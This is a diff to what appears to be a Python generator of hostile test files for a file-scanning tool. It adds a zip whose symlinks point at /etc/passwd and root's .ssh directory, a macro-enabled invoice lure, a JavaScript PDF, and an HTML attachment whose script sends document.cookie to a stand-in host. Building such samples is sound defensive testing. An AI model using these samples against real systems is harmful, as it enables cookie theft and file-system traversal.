@@ -721,6 +721,20 @@ def cd_mismatch_zip():
     return lfh + data + cdh + _eocd(1, len(cdh), len(lfh) + len(data))
 
 
+def zip_symlink():
+    """Info-ZIP symlink entries (Unix mode 0120777 in the external
+    attributes, the target as the data): one absolute, one climbing out."""
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w") as z:
+        for name, target in (("passwd", "/etc/passwd"), ("up/escape", "../../../root/.ssh")):
+            zi = zipfile.ZipInfo(name, date_time=(2024, 5, 6, 9, 0, 0))
+            zi.create_system = 3
+            zi.external_attr = (0o120777 << 16)
+            z.writestr(zi, target)
+        z.writestr("ok.txt", CLEAN_TEXT)
+    return out.getvalue()
+
+
 def lookalike_zip():
     """Traversal spelled with Unicode look-alikes (fullwidth full stop and
     solidus, one-dot leader, division slash) that 'best fit' code page
@@ -851,7 +865,9 @@ def hostile_dump(out):
     put("trunc_tar", "share/broken/cut.tar", truncated_tar())
     g = gzip.compress(CLEAN_TEXT * 2000, mtime=0)
     put("trunc_gz", "share/broken/cut.log.gz", g[: len(g) // 2])
-    put("trunc_pdf", "share/broken/cut.pdf", pdf_pii[: len(pdf_pii) * 2 // 3])
+    # cut inside the cross-reference table: every object is whole, the
+    # trailer is gone (a download that broke off near its end)
+    put("trunc_pdf", "share/broken/cut.pdf", pdf_pii[: pdf_pii.rfind(b"\nxref") + 40])
     d = _docx(CLEAN_TEXT * 30)
     put("trunc_docx", "share/broken/cut.docx", d[: len(d) * 2 // 3])
     put("cd_mismatch", "share/broken/disagree.zip", cd_mismatch_zip())
@@ -887,6 +903,20 @@ def hostile_dump(out):
     put("eml_docx_jpg", "mail/jdoe/inbox/0003.eml",
         _eml("photo", "holiday photo\n", [("photo.jpg", docx_pii, "image/jpeg")]))
     put("eml_clean", "mail/jdoe/inbox/0004.eml", _eml("lunch", "Lunch at noon?\n", []))
+    # --- active content, nested
+    import gen_docs
+    import gen_pdf
+    put("pdf_js_in_zip", "share/docs/forms.zip",
+        zip_bytes([("forms/apply.pdf", gen_pdf.make_javascript()), ("forms/readme.txt", CLEAN_TEXT)]))
+    put("docm_in_eml", "mail/jdoe/inbox/0005.eml",
+        _eml("invoice", "please enable content\n",
+             [("invoice.docm", gen_docs.zip_bytes(gen_docs.docx_parts({}, vba=True, embed=False)),
+               "application/vnd.ms-word.document.macroEnabled.12")]))
+    put("html_script", "mail/jdoe/inbox/0006.eml",
+        _eml("newsletter", "html attached\n",
+             [("news.html", b"<html><body><p>News</p><script>document.location='http://x.test/'+"
+               b"document.cookie</script></body></html>", "text/html")]))
+    put("zip_symlink", "share/it/links.zip", zip_symlink())
     shutil.rmtree(work, ignore_errors=True)
     return cases
 
